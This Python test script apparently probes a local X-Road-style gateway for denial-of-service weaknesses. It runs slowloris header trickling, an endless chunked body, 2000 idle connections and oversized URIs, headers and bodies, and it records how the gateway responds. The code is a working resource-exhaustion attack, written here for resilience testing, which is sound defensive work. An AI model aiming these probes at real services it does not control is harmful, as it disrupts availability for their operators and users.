"""Probe: slowloris (header trickle), idle connections, huge headers/URIs, endless chunked body."""
import asyncio, time, sys
from common import *

async def trickle(every, total=70):
    r, w = await asyncio.open_connection("127.0.0.1", GW_PORT)
    w.write(f"POST {POP_URL} HTTP/1.1\r\nHost: x\r\n".encode()); await w.drain()
    t0 = time.time(); i = 0
    try:
        while time.time() - t0 < total:
            w.write(f"X-A{i}: b\r\n".encode()); await w.drain(); i += 1
            try:
                d = await asyncio.wait_for(r.read(100), every)
                if d == b"" or d:
                    return f"closed/answered after {time.time()-t0:.0f}s: {d[:60]!r}"
            except asyncio.TimeoutError:
                pass
    except (ConnectionError, OSError) as e:
        return f"reset after {time.time()-t0:.0f}s {e}"
    return f"still open after {total}s ({i} header lines)"

async def chunked_forever(total=45):
    r, w = await asyncio.open_connection("127.0.0.1", GW_PORT)
    w.write(f"POST {POP_URL} HTTP/1.1\r\nHost: x\r\nX-Road-Client: VN/GOV/000.00.00.H41/motcua\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
    t0 = time.time()
    try:
        while time.time() - t0 < total:
            w.write(b"1\r\na\r\n"); await w.drain()
            try:
                d = await asyncio.wait_for(r.read(300), 1)
                if d == b"" or d:
                    return f"chunked: answered after {time.time()-t0:.0f}s: {d[:60]!r}"
            except asyncio.TimeoutError:
                pass
    except (ConnectionError, OSError) as e:
        return f"chunked: reset after {time.time()-t0:.0f}s"
    return f"chunked: still open after {total}s"

async def idle(n):
    conns = []
    for _ in range(n):
        conns.append(await asyncio.open_connection("127.0.0.1", GW_PORT))
    await asyncio.sleep(1)
    lat = [await asyncio.to_thread(gw_call) for _ in range(5)]
    print(f"{n} idle connections: victim calls {lat}, gateway RSS {rss('gateway')}")
    for r, w in conns: w.close()

async def main():
    print("huge URI:", gw_call(path=POP_URL + "&x=" + "a" * 100000))
    print("huge header:", gw_call(extra={"X-Big": "a" * 100000}))
    print("many headers:", gw_call(extra={f"X-H{i}": "a" for i in range(2000)}))
    print("body limit+1:", gw_call(body=b"a" * (1024 * 1024 + 1)))
    print("body at limit:", gw_call(client="VN/GOV/000.00.00.H41/motcua", body=b"a" * (1024 * 1024)))
    await idle(2000)
    res = await asyncio.gather(trickle(5), trickle(20), chunked_forever())
    print(res)

asyncio.run(main())
